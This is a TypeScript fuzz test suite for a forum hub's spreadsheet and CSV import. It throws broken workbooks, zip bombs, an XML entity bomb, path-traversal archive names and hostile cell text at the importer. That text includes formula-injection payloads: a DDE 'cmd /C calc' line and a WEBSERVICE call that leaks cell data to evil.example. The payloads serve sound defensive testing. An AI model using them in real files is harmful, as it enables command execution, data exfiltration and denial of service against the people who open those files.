// Fuzzing the spreadsheet import (issue 9, "proof under load and abuse"; docs/import.md): broken .xlsx files (random
// bytes, cut short, bits flipped, parts replaced by junk or by an XML entity bomb), zip bombs, broken CSV files (any
// bytes, byte-order marks, encodings, quotes), arbitrary cell text (control characters, direction overrides, surrogate
// halves, 100 000-character cells), formulas, and sheets with many rows, imported into a real SQLite hub store that
// holds the demo forum. What must hold:
//   - importCatalog always resolves with a report; every problem names its sheet, line and column (or the file) with
//     a reason in English and Russian, and nothing leaks from the code (no "undefined", no stack, no SQL error);
//   - with any problem nothing is written: the hub's head sequence and every catalog row are as they were;
//   - a text cell with a control character, a direction override or a broken character, or too long, is a problem at
//     its cell; any other text is stored as the docs say (NFC, trimmed, one-line fields with runs of white space as one
//     space, multi-line fields with their line breaks);
//   - a formula is never calculated: its saved result is used, one without a saved result is a problem.
// Seeds are fixed (FUZZ_SEED overrides); fast-check prints the seed and the shrunk counterexample of any failure.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateRawSync, inflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadDemoIntoHub } from '../../../hub/catalog';
import { exampleSheets, writeExampleImages, writeWorkbook, type ExampleCell, type ExampleSheets } from '../../../hub/import/example';
import { formatReport, importCatalog, type ImportOptions, type ImportReport } from '../../../hub/import/index';
import { SqliteHubStore } from '../../../hub/store/sqlite-store';
import { hubDigest, type CatalogDigest } from '../../sync/harness';
import { cleanText, fuzzSettings, hugeString, nastyString } from '../../unit/fuzz/arbitraries';

// ---- the hub under test ---------------------------------------------------------------------------------------

const now = Date.parse('2026-11-20T12:00:00+06:00');
let dir: string;
let store: SqliteHubStore;
/** A good workbook with the programme sheet only (a programme replaces no row that others refer to). */
let goodWorkbook: Buffer;
let file = 0;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'import-fuzz-'));
  store = SqliteHubStore.open(join(dir, 'hub'), now);
  await loadDemoIntoHub(store, { projects: 8 }, now);
  const path = join(dir, 'good.xlsx');
  await writeWorkbook({ programme: programmeSheet([]) }, path);
  goodWorkbook = readFileSync(path);
});

afterAll(async () => {
  await store?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** A fresh file name in the work folder (each import reads its own file). */
function fresh(name: string): string {
  file += 1;
  const folder = join(dir, `run-${file}`);
  mkdirSync(folder);
  return join(folder, name);
}

/** Signs of the code's own failure in a reason: JavaScript errors, SQL, stack frames, exceljs's "Bug" messages. */
const leak = /Cannot (read|set) propert|is not a function|is not iterable|\bundefined\b(?! entity)|\[object |\bNaN\b|SQLITE|TypeError|RangeError|ReferenceError|\.ts:\d+|\bat \S+ \(|\bBug\b/;

type Snapshot = { head: number; digest: CatalogDigest };
const snapshot = async (): Promise<Snapshot> => ({ head: (await store.meta()).headSeq, digest: await hubDigest(store) });

const run = (source: string, options: ImportOptions = {}): Promise<ImportReport> => importCatalog(store, source, { now, ...options });

/**
 * The report is well formed whatever the input, and a report with problems wrote nothing. Returns the report's
 * problems as `sheet|line|column` for the caller's own checks.
 */
async function expectSound(report: ImportReport, before: Snapshot, dryRun = false): Promise<string[]> {
  expect(report.problems.length).toBeLessThanOrEqual(1000);
  expect(report.problemCount).toBeGreaterThanOrEqual(report.problems.length);
  expect(report.problemCount === 0).toBe(report.problems.length === 0);
  for (const problem of report.problems) {
    expect(typeof problem.sheet).toBe('string');
    if (problem.line !== null) expect(Number.isInteger(problem.line) && problem.line >= 1, JSON.stringify(problem)).toBe(true);
    if (problem.column !== null) expect(typeof problem.column).toBe('string');
    for (const reason of [problem.reason, problem.reason_ru]) {
      expect(typeof reason === 'string' && reason.trim().length > 0, JSON.stringify(problem)).toBe(true);
      // What the organizers read is about their file, never about the code ("undefined entity" is the XML parser's
      // own words for an entity it does not expand, which is what should happen).
      expect(reason, JSON.stringify(problem)).not.toMatch(leak);
    }
  }
  expect(typeof formatReport(report)).toBe('string');
  expect(report.applied).toBe(report.problemCount === 0 && !dryRun);
  if (!report.applied) {
    // All rows or none: nothing at all was written.
    expect((await store.meta()).headSeq).toBe(before.head);
    expect(await hubDigest(store)).toEqual(before.digest);
  }
  return report.problems.map((p) => `${p.sheet}|${p.line ?? ''}|${p.column ?? ''}`);
}

// ---- the programme sheet, the one the properties fill --------------------------------------------------------

const programmeHeader = ['id', 'kind', 'date', 'starts_at', 'ends_at', 'title_ru', 'title_en', 'about_ru', 'about_en', 'place_ru', 'place_en'];
/** The text columns: their limit, whether they keep line breaks, whether they must be filled (docs/import.md, programme). */
const textColumns = {
  title_ru: { max: 200, multiline: false, required: true },
  title_en: { max: 200, multiline: false, required: true },
  about_ru: { max: 2000, multiline: true, required: false },
  about_en: { max: 2000, multiline: true, required: false },
  place_ru: { max: 200, multiline: false, required: true },
  place_en: { max: 200, multiline: false, required: true },
} as const;
type TextColumn = keyof typeof textColumns;
const textColumnNames = Object.keys(textColumns) as TextColumn[];

type ProgrammeRow = Partial<Record<TextColumn, ExampleCell>>;

/** A programme sheet: one good session per row, with the given text cells in place of the defaults. */
function programmeSheet(rows: readonly ProgrammeRow[]): ExampleCell[][] {
  const base = (i: number): Record<string, ExampleCell> => ({
    id: `fuzz-${i + 1}`,
    kind: 'panel',
    date: '2026-12-03',
    starts_at: '10:00',
    ends_at: '11:00',
    title_ru: `Сессия ${i + 1}`,
    title_en: `Session ${i + 1}`,
    about_ru: '',
    about_en: '',
    place_ru: 'Зал',
    place_en: 'Hall',
  });
  const rowsOut = (rows.length ? rows : [{}]).map((row, i) => {
    const cells: Record<string, ExampleCell | undefined> = { ...base(i), ...row };
    return programmeHeader.map((h) => cells[h] ?? '');
  });
  return [programmeHeader, ...rowsOut];
}

/** CSV as Excel writes it with every cell quoted, in the given encoding (the CSV rows here hold text only). */
function csvBytes(rows: readonly ExampleCell[][], encoding: 'utf8' | 'utf8-bom' | 'utf16le' | 'utf16be' = 'utf8-bom', delimiter = ','): Buffer {
  const text = rows.map((row) => row.map((cell) => `"${(typeof cell === 'string' || typeof cell === 'number' ? String(cell) : '').replace(/"/g, '""')}"`).join(delimiter)).join('\r\n') + '\r\n';
  switch (encoding) {
    case 'utf8':
      return Buffer.from(text, 'utf8');
    case 'utf8-bom':
      return Buffer.from(`\ufeff${text}`, 'utf8');
    case 'utf16le':
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    case 'utf16be':
      return Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]);
  }
}

/** Control characters (but tab and line breaks), direction overrides and isolates, broken UTF-16, noncharacters. */
const forbiddenText =
  // eslint-disable-next-line no-control-regex
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/**
 * What docs/import.md says becomes of a text cell: 'empty', 'refused' (a control character, a direction override or a
 * broken character; or too long), the stored text, or 'either' where a multi-line field's exact tidying decides the
 * length near its limit. `text` is the cell as the file carries it.
 */
function expectedText(text: string, column: TextColumn): { kind: 'empty' } | { kind: 'refused' } | { kind: 'stored'; value: string | null; collapsed: string } | { kind: 'either' } {
  const { max, multiline } = textColumns[column];
  if (text.trim() === '') return { kind: 'empty' };
  if (forbiddenText.test(text)) return { kind: 'refused' };
  const nfc = text.normalize('NFC');
  const collapsed = nfc.replace(/\s+/g, ' ').trim();
  if (!multiline) return collapsed.length > max ? { kind: 'refused' } : { kind: 'stored', value: collapsed, collapsed };
  // A multi-line field keeps its line breaks; its stored length lies between these two.
  const longest = nfc.replace(/\r\n?/g, '\n').trim();
  if (collapsed.length > max) return { kind: 'refused' };
  if (longest.length > max) return { kind: 'either' };
  return { kind: 'stored', value: null, collapsed };
}

/**
 * The text the import reads back for `text`: a surrogate half cannot be written in UTF-8 (Node writes U+FFFD), and in
 * a UTF-16 file the decoder turns it into U+FFFD.
 */
const asWritten = (text: string) => Buffer.from(text, 'utf8').toString('utf8');

// ---- zip files, taken apart and put together by hand ---------------------------------------------------------

type ZipEntry = { name: string; data: Buffer };

/** The entries of a ZIP archive (stored or deflated), read from its central directory. */
function readZip(buf: Buffer): ZipEntry[] {
  let eocd = buf.length - 22;
  while (eocd >= 0 && buf.readUInt32LE(eocd) !== 0x06054b50) eocd--;
  const count = buf.readUInt16LE(eocd + 10);
  let pos = buf.readUInt32LE(eocd + 16);
  const entries: ZipEntry[] = [];
  for (let i = 0; i < count; i++) {
    const method = buf.readUInt16LE(pos + 10);
    const size = buf.readUInt32LE(pos + 20);
    const nameLength = buf.readUInt16LE(pos + 28);
    const local = buf.readUInt32LE(pos + 42);
    const name = buf.toString('utf8', pos + 46, pos + 46 + nameLength);
    const start = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    const raw = buf.subarray(start, start + size);
    entries.push({ name, data: method === 8 ? inflateRawSync(raw) : Buffer.from(raw) });
    pos += 46 + nameLength + buf.readUInt16LE(pos + 30) + buf.readUInt16LE(pos + 32);
  }
  return entries;
}

/**
 * A ZIP archive of `entries`, deflated. `centralCopies` writes each central directory record that many times (all
 * pointing at the same data), which is how an "overlapping" zip bomb claims far more than it holds.
 */
function writeZip(entries: readonly ZipEntry[], centralCopies = 1): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const packed = deflateRawSync(entry.data);
    const crc = crc32(entry.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(entry.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(entry.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    for (let copy = 0; copy < centralCopies; copy++) centrals.push(central, name);
    locals.push(local, name, packed);
    offset += local.length + name.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  const count = Math.min(0xffff, entries.length * centralCopies);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** An XML entity bomb ("billion laughs"): a few hundred bytes that expand to gigabytes if a parser expands entities. */
const entityBomb = (() => {
  const levels = ['<!ENTITY l0 "lollollollollollollollollollol">'];
  for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`);
  return `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [${levels.join('')}]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&l9;</t></si></sst>`;
})();

// ---- the properties ------------------------------------------------------------------------------------------

describe('broken files', () => {
  it('reports a broken .xlsx — random bytes, cut short, bits flipped, parts replaced by junk — and writes nothing', async () => {
    const parts = readZip(goodWorkbook);
    const names = parts.map((p) => p.name);
    const broken = fc.oneof(
      fc.uint8Array({ maxLength: 2000 }).map((b) => ({ how: 'random bytes', bytes: Buffer.from(b) })),
      fc.nat({ max: goodWorkbook.length - 1 }).map((n) => ({ how: `cut at ${n}`, bytes: goodWorkbook.subarray(0, n) })),
      fc.array(fc.tuple(fc.nat({ max: goodWorkbook.length - 1 }), fc.integer({ min: 1, max: 255 })), { minLength: 1, maxLength: 8 }).map((flips) => {
        const bytes = Buffer.from(goodWorkbook);
        for (const [at, mask] of flips) bytes[at] = (bytes[at] ?? 0) ^ mask;
        return { how: `bits flipped at ${flips.map(([at]) => at).join(',')}`, bytes };
      }),
      // A sound archive whose parts are wrong: junk, XML cut short, an entity bomb, names that try to leave the archive.
      fc
        .tuple(
          fc.constantFrom(...names),
          fc.oneof(
            fc.uint8Array({ maxLength: 300 }).map((b) => Buffer.from(b)),
            fc.nat().map((n) => {
              const part = parts.find((p) => p.name.includes('sheet')) ?? parts[0];
              return part ? part.data.subarray(0, n % (part.data.length + 1)) : Buffer.alloc(0);
            }),
            fc.constant(Buffer.from(entityBomb)),
            nastyString.map((s) => Buffer.from(`<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${s}</t></is></c></row></sheetData></worksheet>`)),
          ),
          fc.option(fc.constantFrom('../../../evil.xml', '/etc/passwd', 'xl/worksheets/../../../x.xml', 'C:\\evil.xml', 'xl/worksheets/sheet1.xml\u0000.png'), { nil: undefined }),
        )
        .map(([name, data, extra]) => ({
          how: `${name} replaced${extra ? `, plus ${extra}` : ''}`,
          bytes: writeZip([...parts.map((p) => (p.name === name ? { name, data } : p)), ...(extra ? [{ name: extra, data: Buffer.from('<x/>') }] : [])]),
        })),
    );
    await fc.assert(
      fc.asyncProperty(broken, fc.boolean(), async ({ bytes }, dryRun) => {
        const path = fresh('forum.xlsx');
        writeFileSync(path, bytes);
        const before = await snapshot();
        const started = Date.now();
        const report = await run(path, { dryRun });
        // An entity bomb must not be expanded: the import answers in moments.
        expect(Date.now() - started).toBeLessThan(10_000);
        await expectSound(report, before, dryRun);
      }),
      fuzzSettings(60),
    );
  });

  it('explains an unreadable part of a workbook in words for the organizers, without exceljs’s internal error', async () => {
    // Found by the property above: a workbook whose styles or shared-strings part is empty or not what it should be
    // makes exceljs throw a TypeError, and hub/import/read-xlsx.ts (the catch around workbook.xlsx.load) puts its
    // message into the reason, English in the Russian text too:
    //   "The workbook cannot be read (Cannot read properties of undefined (reading 'styles')). Open it in Excel…"
    // tests/hub/import.test.ts holds reasons to the same standard ("fuzzed input": no "undefined", no "Bug").
    const reasons: string[] = [];
    for (const [part, content] of [['xl/styles.xml', ''], ['xl/styles.xml', '<x/>'], ['xl/styles.xml', '<styleSheet/>'], ['xl/sharedStrings.xml', ''], ['xl/sharedStrings.xml', '<sst/>']] as const) {
      const parts = readZip(goodWorkbook).map((p) => (p.name === part ? { name: p.name, data: Buffer.from(content) } : p));
      const path = fresh('broken-part.xlsx');
      writeFileSync(path, writeZip(parts));
      const report = await run(path);
      expect(report.applied).toBe(false);
      expect(report.problems).toHaveLength(1);
      reasons.push(report.problems[0]?.reason ?? '', report.problems[0]?.reason_ru ?? '');
    }
    expect(reasons.filter((reason) => leak.test(reason))).toEqual([]);
  });

  it('refuses zip bombs and archives of too many parts before unpacking them, with the default limits', async () => {
    const before = await snapshot();
    // One part of 1 MB of zeros (a kilobyte packed), listed 300 times: 300 MB claimed and, if unpacked, delivered.
    const overlapping = writeZip([{ name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(1_000_000) }], 300);
    const bomb = fresh('bomb.xlsx');
    writeFileSync(bomb, overlapping);
    const report = await run(bomb);
    await expectSound(report, before);
    expect(report.problems.map((p) => p.reason)).toEqual([expect.stringMatching(/unpacks to more than 200 MB/)]);

    const many = writeZip(Array.from({ length: 10_001 }, (_, i) => ({ name: `xl/p${i}.xml`, data: Buffer.from('<x/>') })));
    const parts = fresh('parts.xlsx');
    writeFileSync(parts, many);
    const tooMany = await run(parts);
    await expectSound(tooMany, before);
    expect(tooMany.problems).toHaveLength(1);
    expect(tooMany.problems[0]?.reason).toMatch(/damaged|parts/);
  });

  it('reports a broken CSV — any bytes, byte-order marks, encodings, stray quotes, NULs — and writes nothing', async () => {
    const good = csvBytes(programmeSheet([{}, {}]), 'utf8');
    const broken = fc.oneof(
      fc.uint8Array({ maxLength: 1500 }).map((b) => Buffer.from(b)),
      fc.tuple(fc.constantFrom<readonly number[]>([0xef, 0xbb, 0xbf], [0xff, 0xfe], [0xfe, 0xff], [0xef, 0xbb], []), fc.uint8Array({ maxLength: 600 })).map(([bom, b]) => Buffer.concat([Buffer.from(bom), Buffer.from(b)])),
      fc.array(fc.tuple(fc.nat({ max: good.length - 1 }), fc.constantFrom(0x22, 0x2c, 0x3b, 0x09, 0x0d, 0x0a, 0x00, 0xff, 0xc0, 0x80)), { minLength: 1, maxLength: 10 }).map((edits) => {
        const bytes = Buffer.from(good);
        for (const [at, byte] of edits) bytes[at] = byte;
        return bytes;
      }),
      fc.nat({ max: good.length }).map((n) => good.subarray(0, n)),
      fc.constantFrom(
        Buffer.alloc(0),
        Buffer.from('\ufeff'),
        Buffer.from('sep=;\r\n'),
        Buffer.from('sep=\r\n'),
        Buffer.from('sep=\u0000\r\nid\u0000kind\r\n'),
        Buffer.from(`${programmeHeader.join(',')}\r\n"unclosed,quote\r\n`),
        Buffer.from(`${programmeHeader.join(',')}\r\nx,"a"b"c,,,,,,,,,\r\n`),
        Buffer.from(`${programmeHeader.join('\r')}\r`),
        Buffer.concat([Buffer.from(`${programmeHeader.join(',')}\r\nx,panel,2026-12-03,10:00,11:00,"`), Buffer.alloc(1_100_000, 0x61), Buffer.from('",t,,,p,p\r\n')]),
      ),
    );
    await fc.assert(
      fc.asyncProperty(broken, fc.constantFrom('programme.csv', 'regions.csv', 'tags.csv', 'unknown.csv', 'PROGRAMME.CSV'), fc.boolean(), async (bytes, name, dryRun) => {
        const path = fresh(name);
        writeFileSync(path, bytes);
        const before = await snapshot();
        await expectSound(await run(join(path, '..'), { dryRun }), before, dryRun);
      }),
      fuzzSettings(40),
    );
  });
});

describe('cells', () => {
  /** Cell text that breaks naive code, or that a person may well type, or far too long. */
  const cellText = fc.oneof(
    { weight: 4, arbitrary: cleanText(200) },
    { weight: 3, arbitrary: nastyString },
    { weight: 1, arbitrary: fc.constantFrom('=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example","Click me")', '+1+1', '-2+3', '@SUM(1,1)', '=1+1', '\t=1', ' \u00a0 ', '\u000b', '\u0085', 'a\u202eb', 'bell\u0007', '\ud800', '\udc00x', '\ufffe', 'я'.repeat(201), 'я'.repeat(2001)) },
    { weight: 1, arbitrary: hugeString },
    { weight: 1, arbitrary: fc.integer({ min: 99_990, max: 100_010 }).map((n) => 'w '.repeat(n / 2)) },
  );
  const rowArbitrary = fc.dictionary(fc.constantFrom(...textColumnNames), cellText, { minKeys: 1, maxKeys: 3 }) as fc.Arbitrary<Partial<Record<TextColumn, string>>>;

  it('in CSV: a bad text cell is a problem at its sheet, line and column; any other text is stored as documented', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(rowArbitrary, { minLength: 1, maxLength: 4 }), fc.constantFrom<'utf8' | 'utf8-bom' | 'utf16le' | 'utf16be'>('utf8', 'utf8-bom', 'utf16le', 'utf16be'), async (rows, encoding) => {
        const folder = join(fresh('x'), '..');
        writeFileSync(join(folder, 'programme.csv'), csvBytes(programmeSheet(rows), encoding));
        const before = await snapshot();
        const report = await run(folder);
        const found = await expectSound(report, before);
        await expectCells(report, found, rows, asWritten);
      }),
      fuzzSettings(40),
    );
  });

  it('in .xlsx: the same, and a formula is never calculated — its saved result is used, one without a result is a problem', async () => {
    // exceljs writes a surrogate half as U+FFFD, as UTF-8 must. It also reads _xHHHH_ as Excel's escape for a
    // character, so text that happens to look like one is not compared (docs: "Excel's _x0007_").
    const formula = fc.oneof(
      fc.constantFrom("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","Click me")', 'WEBSERVICE("http://evil.example/?leak="&A1)', '1+1', 'NOW()', 'INDIRECT("A"&1)', 'A1'),
      // exceljs writes a cell with an empty formula as the JSON text of the cell object: not a case for the import.
      nastyString.filter((f) => f.length > 0),
    );
    const formulaCell = fc.tuple(formula, fc.oneof(cellText.map((t) => ({ text: t }) as const), fc.constant(null), fc.constantFrom({ error: '#REF!' }, { error: '#N/A' }), fc.integer().map((n) => ({ number: n }) as const)));
    const xlsxRow = fc.dictionary(fc.constantFrom(...textColumnNames), fc.oneof({ weight: 3, arbitrary: cellText.map((t) => ({ text: t }) as const) }, { weight: 1, arbitrary: formulaCell.map(([f, result]) => ({ formula: f, result }) as const) }), {
      minKeys: 1,
      maxKeys: 3,
    });
    type XlsxCell = { text: string } | { formula: string; result: { text: string } | { error: string } | { number: number } | null };
    await fc.assert(
      fc.asyncProperty(fc.array(xlsxRow, { minLength: 1, maxLength: 3 }), async (rows) => {
        const sheetRows: ProgrammeRow[] = rows.map((row) =>
          Object.fromEntries(
            Object.entries(row as Record<string, XlsxCell>).map(([column, cell]) => {
              if ('text' in cell) return [column, cell.text];
              const result = cell.result;
              if (result === null) return [column, { formula: cell.formula } as never];
              return [column, { formula: cell.formula, result: 'text' in result ? result.text : 'error' in result ? { error: result.error } : result.number }];
            }),
          ),
        );
        const path = fresh('forum.xlsx');
        await writeWorkbook({ programme: programmeSheet(sheetRows) }, path);
        const before = await snapshot();
        const report = await run(path);
        const found = await expectSound(report, before);
        if (found.some((f) => f.startsWith('|'))) return; // the file as a whole was refused: nothing to compare cell by cell
        // What each cell should read as: text, or a formula's saved result (never the formula, never a calculation).
        const asCells = rows.map((row) =>
          Object.fromEntries(
            Object.entries(row as Record<string, XlsxCell>).map(([column, cell]) => {
              if ('text' in cell) return [column, cell.text];
              if (cell.result === null) return [column, { problem: 'no saved value' }];
              if ('error' in cell.result) return [column, { problem: 'error' }];
              if ('number' in cell.result) return [column, String(cell.result.number)];
              return [column, cell.result.text];
            }),
          ),
        );
        await expectCells(report, found, asCells, (text) => asWritten(text), { xlsx: true });
      }),
      fuzzSettings(15),
    );
  });

  /**
   * Each fuzzed cell of `rows` is a problem exactly at its line and column when the docs call it bad, and otherwise
   * stored as they describe; the import applied if and only if no cell was bad.
   */
  async function expectCells(
    report: ImportReport,
    found: string[],
    rows: readonly Record<string, string | { problem: string } | undefined>[],
    carried: (text: string) => string,
    options: { xlsx?: boolean } = {},
  ): Promise<void> {
    let bad = 0;
    const stored = report.applied ? new Map((await store.listRecords('programme_sessions')).map((r) => [String(r.row?.id), r.row])) : null;
    for (const [i, row] of rows.entries()) {
      const line = i + 2; // the header is line 1
      for (const column of textColumnNames) {
        const cell = row[column];
        if (cell === undefined) continue;
        const where = `programme|${line}|${column}`;
        const hasProblem = found.includes(where);
        if (typeof cell !== 'string') {
          expect(hasProblem, `${where}: ${cell.problem}`).toBe(true);
          bad += 1;
          continue;
        }
        // XML cannot carry most control characters; exceljs drops or garbles them on the way, so the import may never
        // see them. Such cells are checked only by the invariant below (nothing forbidden reaches the catalog).
        // eslint-disable-next-line no-control-regex
        if (options.xlsx && (/_x[0-9a-f]{4}_/i.test(cell) || /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/.test(cell))) {
          if (hasProblem) bad += 1;
          continue;
        }
        const text = carried(cell);
        const expected = expectedText(text, column);
        const label = `${where} ${JSON.stringify(text.slice(0, 80))}`;
        if (expected.kind === 'either') {
          if (hasProblem) bad += 1;
          continue;
        }
        if (expected.kind === 'refused' || (expected.kind === 'empty' && textColumns[column].required)) {
          expect(hasProblem, `${label} should be a problem`).toBe(true);
          bad += 1;
          continue;
        }
        expect(hasProblem, `${label} is fine: ${report.problems.find((p) => `${p.sheet}|${p.line ?? ''}|${p.column ?? ''}` === where)?.reason}`).toBe(false);
        const value = stored?.get(`fuzz-${i + 1}`)?.[column];
        if (!stored) continue;
        if (expected.kind === 'empty') expect(value, label).toBe('');
        else if (expected.value !== null) expect(value, label).toBe(expected.value);
        else {
          // Multi-line: line breaks kept as \n, nothing else of the text changed but white space.
          expect(typeof value).toBe('string');
          expect(String(value)).not.toMatch(/\r/);
          expect(String(value).replace(/\s+/g, ' ').trim(), label).toBe(expected.collapsed);
        }
      }
    }
    // Nothing but the fuzzed cells was wrong, so the import applied exactly when none of them was.
    expect(report.applied, JSON.stringify(report.problems.slice(0, 5))).toBe(bad === 0);
    // Whatever the file held, no refused character reaches the catalog.
    for (const row of stored?.values() ?? []) for (const column of textColumnNames) expect(String(row?.[column] ?? '')).not.toMatch(forbiddenText);
  }
});

describe('many rows', () => {
  it('refuses a sheet over the row limit as a whole, in CSV and in .xlsx, without writing', async () => {
    const header = programmeHeader.join(',');
    const rows = Array.from({ length: 20_001 }, (_, i) => `r-${i},panel,2026-12-03,10:00,11:00,a,b,,,c,d`);
    const folder = join(fresh('x'), '..');
    writeFileSync(join(folder, 'programme.csv'), [header, ...rows].join('\r\n'));
    const before = await snapshot();
    const csv = await run(folder);
    await expectSound(csv, before);
    expect(csv.problems.map((p) => p.reason)).toEqual([expect.stringMatching(/more than 20000 rows/)]);

    // A workbook made by hand (exceljs would take long to write it): one column of 20 001 inline strings.
    const sheetRows = Array.from({ length: 20_002 }, (_, i) => `<row r="${i + 1}"><c r="A${i + 1}" t="inlineStr"><is><t>${i === 0 ? 'id' : `r-${i}`}</t></is></c></row>`).join('');
    const book = writeZip([
      { name: '[Content_Types].xml', data: Buffer.from('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>') },
      { name: '_rels/.rels', data: Buffer.from('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>') },
      { name: 'xl/workbook.xml', data: Buffer.from('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="tags" sheetId="1" r:id="rId1"/></sheets></workbook>') },
      { name: 'xl/_rels/workbook.xml.rels', data: Buffer.from('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>') },
      { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(`<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${sheetRows}</sheetData></worksheet>`) },
    ]);
    const path = fresh('big.xlsx');
    writeFileSync(path, book);
    const xlsx = await run(path);
    await expectSound(xlsx, before);
    expect(xlsx.problems.map((p) => p.reason)).toEqual([expect.stringMatching(/more than 20000 rows/)]);
  });

  it('checks a long sheet row by row: problems point at exactly the bad lines, a good one applies whole', async () => {
    const count = 600;
    const badCells = fc.uniqueArray(fc.nat({ max: count - 1 }), { maxLength: 4 }).chain((lines) =>
      fc.tuple(fc.constant(lines), fc.array(fc.constantFrom('bell\u0007', 'a\u202eb', 'x'.repeat(201), '\u0085'), { minLength: lines.length, maxLength: lines.length })),
    );
    await fc.assert(
      fc.asyncProperty(badCells, async ([lines, texts]) => {
        const rows: ProgrammeRow[] = Array.from({ length: count }, () => ({}));
        lines.forEach((line, k) => (rows[line] = { title_en: texts[k] ?? '' }));
        const folder = join(fresh('x'), '..');
        writeFileSync(join(folder, 'programme.csv'), csvBytes(programmeSheet(rows), 'utf16le'));
        const before = await snapshot();
        const report = await run(folder);
        const found = await expectSound(report, before);
        expect(found.sort()).toEqual(lines.map((line) => `programme|${line + 2}|title_en`).sort());
        if (report.applied) expect((await store.listRecords('programme_sessions')).length).toBe(count);
      }),
      fuzzSettings(3),
    );
  });
});

describe('a good file', () => {
  it('imports the same rows from every encoding Excel writes, and the example workbook imports cleanly', async () => {
    // The programme of the example, as UTF-8, UTF-8 with a byte-order mark, UTF-16 LE and BE: one and the same import.
    const sheets: ExampleSheets = { programme: exampleSheets().programme ?? [] };
    const results: unknown[] = [];
    for (const encoding of ['utf8', 'utf8-bom', 'utf16le', 'utf16be'] as const) {
      const folder = join(fresh('x'), '..');
      writeFileSync(join(folder, 'programme.csv'), csvBytes(sheets.programme ?? [], encoding, encoding === 'utf8' ? ';' : ','));
      const before = await snapshot();
      const report = await run(folder, { dryRun: true });
      await expectSound(report, before, true);
      results.push({ problems: report.problems, counts: report.counts.programme_sessions });
    }
    expect(results.every((r) => JSON.stringify(r) === JSON.stringify(results[0]))).toBe(true);
    expect(results[0]).toMatchObject({ problems: [] });

    // The whole example (docs/import.md's columns, every sheet) is a good import: no problem at all.
    const images = join(fresh('x'), '..', 'images');
    writeExampleImages(images);
    const path = join(images, '..', 'forum.xlsx');
    await writeWorkbook(exampleSheets(), path);
    const before = await snapshot();
    const report = await run(path, { dryRun: true });
    await expectSound(report, before, true);
    expect(report.problems).toEqual([]);
  });
});
